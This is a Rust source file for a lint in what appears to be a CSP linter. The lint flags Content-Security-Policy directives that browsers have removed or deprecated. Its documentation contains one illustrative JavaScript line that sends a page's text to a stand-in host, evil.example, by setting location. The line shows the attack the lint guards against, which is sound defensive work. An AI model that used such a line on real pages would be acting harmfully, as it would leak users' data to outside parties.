use crate::csp::Status;
use crate::diagnostic::{Diagnostic, Level};
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for directives that were removed from Content-Security-Policy, or that no browser ever supported. A
    /// deprecated directive that some browsers still read is a warning.
    ///
    /// # Why it matters
    ///
    /// Browsers ignore directives that they do not know. What the directive should forbid is allowed.
    ///
    /// # Attack
    ///
    /// `navigate_to` was removed before a browser shipped it. A policy that relies on it does not stop an injected link
    /// or script from leaving with data:
    ///
    /// ```js
    /// location = "https://evil.example/?" + encodeURIComponent(document.body.innerText);
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { default_src: self, plugin_types: "application/pdf" }
    /// ```
    ///
    /// # Fix
    ///
    /// Use the directive that replaced it; the help of the finding names it.
    ///
    /// ```text
    /// content_security_policy: { default_src: self, object_src: none }
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_obsolete_directive, reason = "a scanner of a customer asks for it")]
    /// plugin_types: "application/pdf",
    /// ```
    ///
    /// Reasonable only to please a tool: browsers ignore the directive.
    ///
    /// # References
    ///
    /// - [CSP3, section 6, directives](https://w3c.github.io/webappsec-csp/#csp-directives)
    /// - [CSP3, section 2.2.1, unknown directives are ignored](https://w3c.github.io/webappsec-csp/#parse-serialized-policy)
    Deny "a directive that browsers no longer support",
    cwe [693], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    for directive in policy.clauses().into_iter().map(|clause| clause.directive) {
        let (level, what, instead) = match directive.node.status() {
            Status::Removed(instead) => (Level::Deny, "was removed, and browsers ignore it", instead),
            Status::Deprecated(instead) => (Level::Warn, "is obsolete: browsers now do this by default", instead),
            Status::Standard | Status::Experimental => continue,
        };
        let finding = Diagnostic::finding(directive.span, format!("`{}` {what}", directive.node.key()));
        let finding = match instead.strip_prefix("nothing: ") {
            Some(why) => finding.help("remove it").note(why),
            None => finding.help(format!("use {instead}")),
        };
        report.push_at(level, finding);
    }
}
